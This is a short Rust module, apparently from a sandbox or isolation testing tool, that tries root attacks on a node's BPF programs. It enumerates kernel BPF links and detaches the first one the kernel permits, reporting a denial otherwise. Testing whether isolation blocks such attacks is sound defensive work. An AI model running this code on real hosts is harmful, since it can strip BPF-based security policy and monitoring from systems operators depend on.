//! Attacks of root on the node's BPF programs.

use crate::errno::Errno;
use crate::failure::Failure;
use crate::sys::{self, Page};
use crate::target::Target;

/// `enum bpf_cmd`, include/uapi/linux/bpf.h.
const BPF_LINK_GET_FD_BY_ID: u32 = 30;
const BPF_LINK_GET_NEXT_ID: u32 = 31;
const BPF_LINK_DETACH: u32 = 34;
/// `union bpf_attr` for these commands: two or three 32-bit numbers.
const SIZE: usize = 12;

/// Detaches the first BPF link that permits it. Fails with `Denied` if no link can be detached.
pub(crate) fn detach_links(_: &Target<'_>, page: &mut Page) -> Result<(), Failure> {
    let mut id = 0;
    let mut denied = None;
    loop {
        page.clear();
        page.put_u32(0, id);
        match sys::bpf(BPF_LINK_GET_NEXT_ID, page, SIZE) {
            Ok(_) => id = page.get_u32(4),
            // The kernel has no link with a higher ID.
            Err(Errno::ENOENT) => break,
            Err(errno) => return Err(Failure::Denied(errno)),
        }
        match detach(page, id) {
            Ok(()) => return Ok(()),
            Err(errno) => denied = Some(errno),
        }
    }
    Err(denied.map_or(Failure::Step("look for a link", Errno::ENOENT), Failure::Denied))
}

fn detach(page: &mut Page, id: u32) -> Result<(), Errno> {
    page.clear();
    page.put_u32(0, id);
    let link = sys::bpf(BPF_LINK_GET_FD_BY_ID, page, SIZE)?;
    page.clear();
    page.put(0, &link.to_ne_bytes());
    sys::bpf(BPF_LINK_DETACH, page, SIZE).map(drop)
}
